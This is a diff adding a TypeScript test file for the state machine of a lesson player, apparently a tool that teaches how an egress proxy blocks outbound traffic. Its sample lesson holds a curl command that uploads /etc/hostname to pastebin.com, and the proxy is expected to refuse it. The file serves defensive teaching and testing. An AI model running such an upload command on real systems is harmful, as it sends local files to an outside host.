@@ -1,0 +1,96 @@
+import { describe, expect, it } from "vitest";
+import { bypassRefused, pastebinRefused, zenServed, zenUnreadable } from "../../../lessons/testing/windows";
+import { type LoadedLesson, loadLessonText } from "./lesson-core";
+import { closedPlayer, currentStep, type PlayerEffect, updatePlayer } from "./player-machine";
+
+// The lesson player's state machine, without a DOM: what each event does to the state, and
+// which effects the mount must perform (log, post to an embedding page, keep progress, setup).
+
+const TEXT = `lesson: 1
+title: Two ways out
+setup:
+  - mkdir -p /tmp/demo
+steps:
+  - title: Pastebin
+    run: curl -sS -T /etc/hostname https://pastebin.com/api/upload
+    expect:
+      - verdict: host-not-allowed
+        by: proxy
+    hint: The host must be pastebin.com.
+    explain: Refused before a byte left.
+  - title: An allowed GET
+    type: demo
+    run: curl -sS https://api.github.com/zen; echo
+    expect:
+      - verdict: served
+        by: proxy
+        target: api.github.com
+`;
+
+const lesson = (): LoadedLesson => {
+  const loaded = loadLessonText({ text: TEXT, pin: "a".repeat(64), source: "bundled", ref: "t" });
+  if (!loaded.ok) throw new Error(loaded.reason);
+  return loaded.lesson;
+};
+const kinds = (effects: readonly PlayerEffect[]) => effects.map((e) => (e.kind === "post" ? `post ${e.message.type}` : e.kind));
+
+describe("the lesson player's state machine", () => {
+  it("opening a lesson logs its load, tells the embedder, keeps progress, announces step 1 and runs the setup", () => {
+    const { state, effects } = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: undefined, startAt: null });
+    expect(currentStep(state)).toBe(0);
+    expect(kinds(effects)).toEqual(["log", "post lesson.loaded", "persist", "post lesson.step-started", "run-setup"]);
+    expect(effects.find((e) => e.kind === "run-setup")).toEqual({ kind: "run-setup", commands: ["mkdir -p /tmp/demo"] });
+  });
+
+  it("a wrong command fails the step with its hint and stays; the right one passes with its explanation and moves on", () => {
+    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: undefined, startAt: null });
+    t = updatePlayer(t.state, { kind: "command", window: bypassRefused() });
+    expect(t.state.attempt).toMatchObject({ result: "failed", step: 0, note: "The host must be pastebin.com." });
+    expect(currentStep(t.state)).toBe(0);
+    expect(kinds(t.effects)).toEqual(["log", "post lesson.step-failed", "persist"]);
+    t = updatePlayer(t.state, { kind: "command", window: pastebinRefused() });
+    expect(t.state.attempt).toMatchObject({ result: "passed", note: "Refused before a byte left." });
+    expect(currentStep(t.state)).toBe(1);
+    expect(kinds(t.effects)).toEqual(["log", "post lesson.step-passed", "persist", "post lesson.step-started"]);
+  });
+
+  it("a served step whose upstream fails does not pass; served, the lesson is done", () => {
+    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 1, passed: [1] }, startAt: null });
+    t = updatePlayer(t.state, { kind: "command", window: zenUnreadable() });
+    expect(t.state.attempt?.result).toBe("failed");
+    expect(t.state.attempt?.explanation).toMatch(/upstream-unreadable/);
+    t = updatePlayer(t.state, { kind: "command", window: zenServed() });
+    expect(currentStep(t.state)).toBe(2);
+    expect(kinds(t.effects)).toContain("post lesson.done");
+  });
+
+  it("a failed setup blocks judging until Restart, which starts over, forgets the progress and runs the setup again", () => {
+    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: undefined, startAt: null });
+    t = updatePlayer(t.state, { kind: "setup-failed", reason: "setup 1 `mkdir -p /tmp/demo` exited 1" });
+    t = updatePlayer(t.state, { kind: "command", window: pastebinRefused() });
+    expect(t.effects).toEqual([]);
+    expect(currentStep(t.state)).toBe(0);
+    t = updatePlayer(t.state, { kind: "restart" });
+    expect(t.state.blocked).toBeNull();
+    expect(kinds(t.effects)).toEqual(["forget", "persist", "post lesson.step-started", "run-setup"]);
+    expect(updatePlayer(t.state, { kind: "command", window: pastebinRefused() }).state.attempt?.result).toBe("passed");
+  });
+
+  it("a link's step wins over the kept progress; closing leaves nothing open and judges nothing", () => {
+    const t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 0, passed: [] }, startAt: 1 });
+    expect(currentStep(t.state)).toBe(1);
+    const closed = updatePlayer(t.state, { kind: "close" });
+    expect(closed.state).toEqual(closedPlayer);
+    expect(updatePlayer(closed.state, { kind: "command", window: pastebinRefused() }).effects).toEqual([]);
+  });
+
+  it("opening past step 1 says so and types the setup and the earlier steps' commands again, not judged", () => {
+    const { effects } = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 1, passed: [1] }, startAt: null });
+    expect(effects.find((e) => e.kind === "say")).toMatchObject({ text: expect.stringMatching(/^Resuming at step 2/) });
+    expect(effects.find((e) => e.kind === "run-setup")).toEqual({
+      kind: "run-setup",
+      commands: ["mkdir -p /tmp/demo"],
+      replay: ["curl -sS -T /etc/hostname https://pastebin.com/api/upload"],
+    });
+  });
+});
